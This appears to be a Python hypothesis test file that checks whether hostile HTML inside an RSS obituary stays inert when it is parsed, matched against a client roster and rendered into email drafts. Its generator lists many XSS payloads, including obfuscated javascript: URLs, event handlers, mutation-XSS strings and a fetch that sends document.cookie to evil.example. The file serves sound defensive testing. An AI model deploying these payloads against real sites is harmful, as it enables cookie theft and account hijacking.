"""Hypothesis: hostile entry HTML through parse -> match -> draft -> render stays inert.

A real-looking obituary whose paragraphs are interleaved with generated hostile HTML (scripts, event
handlers in any case, obfuscated javascript: URLs, SVG/MathML, comments, broken tags, entity-encoded
markup, template syntax) is served as RSS, parsed by outreach.feeds, matched against the roster by
outreach.match and rendered by outreach.drafts. Every draft's HTML part must hold no live <script> (or
other active element), no on*= attribute and no javascript:/data:/vbscript: URL; its text part and
subject no markup at all.
"""

from __future__ import annotations

from xml.sax.saxutils import escape

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from outreach.drafts import DraftRefused, render_draft
from outreach.feeds.parse import parse_feed
from outreach.match.engine import match_items
from outreach.match.index import RosterIndex
from tests.faults.harness import ADVISERS, MILLER, ROSTER
from tests.hostile.inert import html_problems, text_problems

INDEX = RosterIndex(ROSTER)
BY_ID = {c.client_id: c for c in ROSTER}
PARAGRAPHS = [s.strip() + "." for s in MILLER.text.split(". ") if s.strip()]

# --- hostile HTML, built from parts so hypothesis can combine and shrink them ---------------------------------

EVENTS = st.sampled_from(["onerror", "onload", "onclick", "onmouseover", "OnErRoR", "onfocus", "onanimationstart",
                          "ontoggle", "onbegin", "onpointerenter"])
SCHEMES = st.sampled_from(["javascript:", "JaVaScRiPt:", "jav&#x09;ascript:", "jav&#10;ascript:", " javascript:",
                           "java\u0000script:", "vbscript:", "data:text/html;base64,PHNjcmlwdD4=",
                           "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;", "javascript&colon;"])
PAYLOAD = st.sampled_from(["alert(1)", "document.cookie", "fetch('//evil.example/'+document.cookie)", "{{ 7*7 }}",
                           "{% raw %}", "${7*7}", "<%= 7 %>", "'\"><"])
TAGS = st.sampled_from(["img", "a", "svg", "body", "iframe", "div", "p", "details", "math", "video", "input", "form",
                        "object", "embed", "marquee", "isindex", "table", "td", "style", "base", "meta", "link"])
QUOTE = st.sampled_from(['"', "'", ""])


@st.composite
def handler_tag(draw) -> str:
    q = draw(QUOTE)
    return f"<{draw(TAGS)} {draw(EVENTS)}={q}{draw(PAYLOAD)}{q}>text</{draw(TAGS)}>"


@st.composite
def url_tag(draw) -> str:
    attr = draw(st.sampled_from(["href", "src", "action", "formaction", "xlink:href", "background", "data"]))
    q = draw(QUOTE)
    return f"<{draw(TAGS)} {attr}={q}{draw(SCHEMES)}{draw(PAYLOAD)}{q}>link</{draw(TAGS)}>"


@st.composite
def script_block(draw) -> str:
    body = draw(PAYLOAD)
    return draw(st.sampled_from([
        f"<script>{body}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<scr<script>ipt>{body}</script>",
        f"<script>/*</script><script>*/{body}</script>", f"<!--<script>{body}</script>-->",
        f"<![CDATA[<script>{body}</script>]]>", f"<svg><script>{body}</script></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={body}>",
        f"<noscript><p title=\"</noscript><img src=x onerror={body}>\">",
        f"<style>@import 'javascript:{body}';</style>",
        f"&lt;script&gt;{body}&lt;/script&gt;", f"<iframe srcdoc=\"&lt;script&gt;{body}&lt;/script&gt;\"></iframe>",
        f"<template><script>{body}</script></template>", f"<div style=\"background:url(javascript:{body})\">x</div>",
        f"<a href=\"https://ok.example/\" onclick=\"{body}\">ok</a>", "<img src=x onerror=alert(1)//",
        f"</p></div></body></html><script>{body}</script>", "<?php echo 1; ?>", "<!DOCTYPE html>",
    ]))


NOISE = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)
FRAGMENT = st.one_of(handler_tag(), url_tag(), script_block(), NOISE)


def rss_with(title: str, paragraphs: list[str]) -> bytes:
    body = "".join(paragraphs)
    return ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>Obituaries</title>"
            "<link>https://obits.example/</link><description>Obituaries</description><item>"
            f"<title>{escape(title)}</title><link>https://obits.example/miller</link><guid>obit-miller</guid>"
            f"<pubDate>Tue, 05 May 2026 14:00:00 GMT</pubDate><description>{escape(body)}</description>"
            "</item></channel></rss>").encode()


def drafts_for(data: bytes):
    parsed = parse_feed(data, source="hostile", source_kind="obituary")
    out = []
    for match in match_items(INDEX, parsed.items, replay=True):
        item = next(i for i in parsed.items if i.item_id == match.item_id)
        client = BY_ID[match.client_id]
        deceased_id = match.details.get("deceased_client_id")
        try:
            out.append(render_draft(match, client, item, ADVISERS.for_email(client.advisor_email),
                                    deceased=BY_ID.get(str(deceased_id)) if deceased_id else None,
                                    notice_email=ADVISERS.notice_email))
        except DraftRefused:
            continue
    return out


def assert_inert(draft) -> None:
    assert html_problems(draft.body_html) == [], draft.body_html
    assert text_problems(draft.body_text) == [], draft.body_text
    assert text_problems(draft.subject) == [] and "\n" not in draft.subject
    assert "{{" not in draft.body_text + draft.body_html and "{%" not in draft.body_text + draft.body_html


def test_the_clean_obituary_gives_every_expected_draft():
    """The control: without hostile fragments the same document drafts for every expected client."""
    drafts = drafts_for(rss_with(MILLER.title, [f"<p>{p}</p>" for p in PARAGRAPHS]))
    assert sorted(d.template for d in drafts) == sorted(MILLER.expected.values())
    for draft in drafts:
        assert_inert(draft)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(fragments=st.lists(FRAGMENT, min_size=len(PARAGRAPHS) + 1, max_size=len(PARAGRAPHS) + 1),
       title_fragment=FRAGMENT)
def test_hostile_html_between_paragraphs_never_renders_live(fragments, title_fragment):
    paragraphs = [x for pair in zip(fragments, [f"<p>{p}</p>" for p in PARAGRAPHS] + [""], strict=True) for x in pair]
    drafts = drafts_for(rss_with(f"{MILLER.title} {title_fragment}", paragraphs))
    for draft in drafts:
        assert_inert(draft)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(fragment=st.one_of(handler_tag(), url_tag(), script_block()))
def test_hostile_markup_inside_the_survivor_sentence_never_renders_live(fragment):
    """Markup inside the very sentence that names the client: the names reach the templates, the markup never."""
    paragraphs = [f"<p>{p.replace('Susan (Tom) Halvorsen', f'Susan {fragment} (Tom) Halvorsen')}</p>"
                  for p in PARAGRAPHS]
    for draft in drafts_for(rss_with(MILLER.title, paragraphs)):
        assert_inert(draft)
